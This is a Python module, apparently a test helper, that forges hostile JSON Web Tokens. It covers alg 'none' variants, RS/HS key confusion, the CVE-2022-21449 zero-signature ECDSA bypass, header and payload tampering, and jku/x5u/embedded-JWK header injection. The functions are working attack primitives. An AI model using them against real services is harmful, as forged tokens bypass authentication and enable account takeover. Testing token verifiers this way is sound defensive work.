"""Craft hostile JWTs. Every function returns the compact token string, never validated.

Primitives: ``b64url_encode``/``b64url_decode``, ``segment(obj)``, ``join(h, p, sig)``,
``parts(token)``, ``sign(signing_input, key, alg)``, ``signed(header, payload, key, alg)``.
Attacks built on them: ``unsigned`` (alg none and its case variants), ``hs256_with_public_key``
(RS/HS key confusion), ``es256_zero_signature`` (CVE-2022-21449 "psychic signature"),
``tamper_payload``/``tamper_header`` (keep the old signature), ``resign``, ``with_header``
(jku, x5u, embedded jwk, crit, kid tricks), ``embedded_jwk``, ``strip_signature``, ``truncate``,
``garble``, ``oversized_claims``; ``attacker_key(alg)`` for keys the issuer never published.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from collections.abc import Mapping
from typing import Any, Final

from cryptography.hazmat.primitives import serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
from jwt.algorithms import RSAAlgorithm, get_default_algorithms

__all__ = [
    "DELETE",
    "NONE_VARIANTS",
    "attacker_key",
    "b64url_decode",
    "b64url_encode",
    "decode_header",
    "decode_payload",
    "embedded_jwk",
    "es256_zero_signature",
    "garble",
    "hs256_with_public_key",
    "join",
    "oversized_claims",
    "parts",
    "public_key_encodings",
    "resign",
    "segment",
    "sign",
    "signed",
    "strip_signature",
    "tamper_header",
    "tamper_payload",
    "truncate",
    "unsigned",
    "with_header",
]

NONE_VARIANTS: Final = ("none", "None", "NONE", "nOnE")


class _Delete:
    def __repr__(self) -> str:
        return "DELETE"


DELETE: Final = _Delete()
"""Pass as a claim/header value to remove that member: ``tamper_payload(t, exp=DELETE)``."""


# -- primitives ---------------------------------------------------------------------------------


def b64url_encode(data: bytes) -> str:
    """Unpadded base64url (RFC 7515 §2)."""
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def b64url_decode(data: str | bytes) -> bytes:
    raw = data.encode("ascii") if isinstance(data, str) else data
    return base64.urlsafe_b64decode(raw + b"=" * (-len(raw) % 4))


def segment(obj: Any) -> str:
    """One token segment: bytes as they are, anything else as compact JSON."""
    if isinstance(obj, bytes):
        return b64url_encode(obj)
    return b64url_encode(json.dumps(obj, separators=(",", ":")).encode())


def join(header: Any, payload: Any, signature: bytes = b"") -> str:
    """``segment(header).segment(payload).b64(signature)``."""
    return f"{segment(header)}.{segment(payload)}.{b64url_encode(signature)}"


def parts(token: str) -> tuple[dict[str, Any], dict[str, Any], bytes]:
    """Decoded header, payload and raw signature of a three-part token."""
    header, payload, signature = token.split(".")
    return (
        json.loads(b64url_decode(header)),
        json.loads(b64url_decode(payload)),
        b64url_decode(signature),
    )


def decode_header(token: str) -> dict[str, Any]:
    return parts(token)[0]


def decode_payload(token: str) -> dict[str, Any]:
    return parts(token)[1]


def _merge(base: Mapping[str, Any], changes: Mapping[str, Any]) -> dict[str, Any]:
    merged = dict(base)
    for name, value in changes.items():
        if value is DELETE:
            merged.pop(name, None)
        else:
            merged[name] = value
    return merged


def sign(signing_input: bytes, key: Any, alg: str) -> bytes:
    """A signature with no sanity checks: HS* takes any bytes as the secret, "none" gives b""."""
    if alg.lower() == "none":
        return b""
    if alg.startswith("HS"):
        # PyJWT refuses PEM-looking HMAC secrets, which is exactly the attack we need to build.
        secret = key.encode() if isinstance(key, str) else bytes(key)
        digest = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]
        return hmac.new(secret, signing_input, digest).digest()
    algorithm = get_default_algorithms()[alg]
    return algorithm.sign(signing_input, algorithm.prepare_key(key))


def signed(header: Mapping[str, Any], payload: Any, key: Any, alg: str) -> str:
    """Sign exactly this header (its ``alg`` set to ``alg``) and payload with ``key``."""
    head = segment({**header, "alg": alg})
    body = segment(payload)
    signing_input = f"{head}.{body}".encode("ascii")
    return f"{head}.{body}.{b64url_encode(sign(signing_input, key, alg))}"


# -- attacks ------------------------------------------------------------------------------------


def unsigned(header: Mapping[str, Any], payload: Any, *, alg: str | None = "none") -> str:
    """``h.p.`` with an empty signature; ``alg`` replaces the header's (None keeps it)."""
    head = dict(header) if alg is None else {**header, "alg": alg}
    return f"{segment(head)}.{segment(payload)}."


def strip_signature(token: str) -> str:
    """The same header (its real alg) and payload with the signature removed: ``h.p.``."""
    header, payload, _ = token.split(".")
    return f"{header}.{payload}."


def hs256_with_public_key(
    public_key: bytes | str, header: Mapping[str, Any], payload: Any, *, alg: str = "HS256"
) -> str:
    """RS/HS key confusion: HMAC keyed with the issuer's *public* key bytes (PEM, DER, JWK...)."""
    return signed(header, payload, public_key, alg)


def public_key_encodings(public_key: Any) -> dict[str, bytes]:
    """The byte strings a confused verifier might use as an HMAC secret for this public key."""
    spki_pem = public_key.public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    encodings = {
        "spki_pem": spki_pem,
        "spki_pem_no_newline": spki_pem.rstrip(b"\n"),
        "spki_der": public_key.public_bytes(
            serialization.Encoding.DER, serialization.PublicFormat.SubjectPublicKeyInfo
        ),
    }
    if isinstance(public_key, rsa.RSAPublicKey):
        encodings["pkcs1_pem"] = public_key.public_bytes(
            serialization.Encoding.PEM, serialization.PublicFormat.PKCS1
        )
        encodings["jwk_json"] = RSAAlgorithm.to_jwk(public_key).encode()
    return encodings


def es256_zero_signature(header: Mapping[str, Any], payload: Any, *, length: int = 64) -> str:
    """ES256 with r = s = 0 (64 zero bytes): accepted by Java 15-18's broken ECDSA check."""
    head = {**header, "alg": "ES256"}
    return join(head, payload, b"\x00" * length)


def tamper_payload(token: str, changes: Mapping[str, Any] | None = None, /, **claims: Any) -> str:
    """New payload claims (``DELETE`` removes one), original header and signature kept."""
    header, payload, signature = token.split(".")
    body = _merge(json.loads(b64url_decode(payload)), {**(changes or {}), **claims})
    return f"{header}.{segment(body)}.{signature}"


def tamper_header(token: str, changes: Mapping[str, Any] | None = None, /, **members: Any) -> str:
    """New header members (e.g. ``alg="RS512"``, ``kid=...``), payload and signature kept."""
    header, payload, signature = token.split(".")
    head = _merge(json.loads(b64url_decode(header)), {**(changes or {}), **members})
    return f"{segment(head)}.{payload}.{signature}"


def resign(token: str, key: Any, alg: str) -> str:
    """The same header (alg replaced) and payload, signed again with ``key``."""
    header, payload, _ = parts(token)
    return signed(header, payload, key, alg)


def with_header(
    token: str,
    changes: Mapping[str, Any] | None = None,
    /,
    *,
    key: Any = None,
    alg: str | None = None,
    **members: Any,
) -> str:
    """Add header members (``jku``, ``x5u``, ``jwk``, ``crit``, ``kid``...), then re-sign with
    ``key`` (``alg`` defaults to the token's) so only the header tells the story; without ``key``
    the old signature is kept (and no longer matches).
    """
    if key is None:
        return tamper_header(token, changes, **members)
    header, payload, _ = parts(token)
    head = _merge(header, {**(changes or {}), **members})
    return signed(head, payload, key, alg or head["alg"])


def attacker_key(alg: str = "RS256") -> Any:
    """A fresh private key of the shape ``alg`` needs, known to nobody but the test."""
    if alg.startswith(("RS", "PS")):
        return rsa.generate_private_key(public_exponent=65537, key_size=2048)
    if alg == "EdDSA":
        return ed25519.Ed25519PrivateKey.generate()
    curve = {"ES256": ec.SECP256R1(), "ES384": ec.SECP384R1(), "ES512": ec.SECP521R1()}[alg]
    return ec.generate_private_key(curve)


def embedded_jwk(payload: Any, *, header: Mapping[str, Any] | None = None, alg: str = "RS256") -> str:
    """Signed by a fresh attacker key whose public JWK rides in the header (RFC 7515 §4.1.3)."""
    key = attacker_key(alg)
    jwk = get_default_algorithms()[alg].to_jwk(key.public_key(), as_dict=True)
    return signed({**(header or {}), "jwk": jwk}, payload, key, alg)


def truncate(token: str, chars: int = 10) -> str:
    """Drop the last ``chars`` characters (cuts into the signature)."""
    return token[:-chars]


def garble(token: str, part: int = 2, index: int = 5) -> str:
    """Swap one base64url character of segment ``part`` for another valid one."""
    segments = token.split(".")
    text = segments[part]
    index %= len(text)
    replacement = "A" if text[index] != "A" else "B"
    segments[part] = text[:index] + replacement + text[index + 1 :]
    return ".".join(segments)


def oversized_claims(size: int = 20_000) -> dict[str, str]:
    """A claim that makes the token about ``size`` bytes bigger: ``mint(..., claims=...)``."""
    return {"padding": "x" * size}
